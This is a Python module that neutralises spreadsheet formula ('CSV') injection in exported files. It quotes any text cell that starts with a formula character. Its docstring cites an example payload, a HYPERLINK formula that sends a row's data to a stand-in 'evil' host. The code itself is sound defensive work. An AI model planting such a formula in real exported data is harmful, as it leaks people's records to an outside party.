"""Cells a spreadsheet program would run as formulas, made inert (OWASP "CSV injection").

Excel and LibreOffice treat a cell that starts with =, +, -, @ (or a tab or carriage return
before one of them) as a formula: `=HYPERLINK("http://evil/?"&A1,"click")` in a buyer's
address becomes a live link that leaks the row. OWASP's remedy is to prefix such a cell with a
single quote, which both programs show as text. Files for machines (Parquet, JSON) keep raw
values; every file OrderHub writes for a person passes its text columns through here.
"""

from __future__ import annotations

import re

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

# A leading tab or carriage return is what spreadsheet programs skip before reading a formula.
FORMULA_START = r"^[=+\-@\t\r]"
_FORMULA = re.compile(FORMULA_START)


def inert(value: object) -> object:
    """The cell as a spreadsheet program will show it as text: `=1+1` → `'=1+1`; non-text as is."""
    if isinstance(value, str) and _FORMULA.match(value):
        return "'" + value
    return value


def inert_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """inert() over every text column of a frame about to become a CSV for a person."""
    text = [name for name, dtype in frame.dtypes.items() if pd.api.types.is_string_dtype(dtype)]
    return frame.assign(**{str(name): frame[name].map(inert) for name in text}) if text else frame


def inert_column(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """inert() over an Arrow string column, vectorised; other types pass through."""
    if not pa.types.is_string(column.type) and not pa.types.is_large_string(column.type):
        return column
    return pc.replace_substring_regex(column, pattern=f"({FORMULA_START})", replacement="'\\1", max_replacements=1)
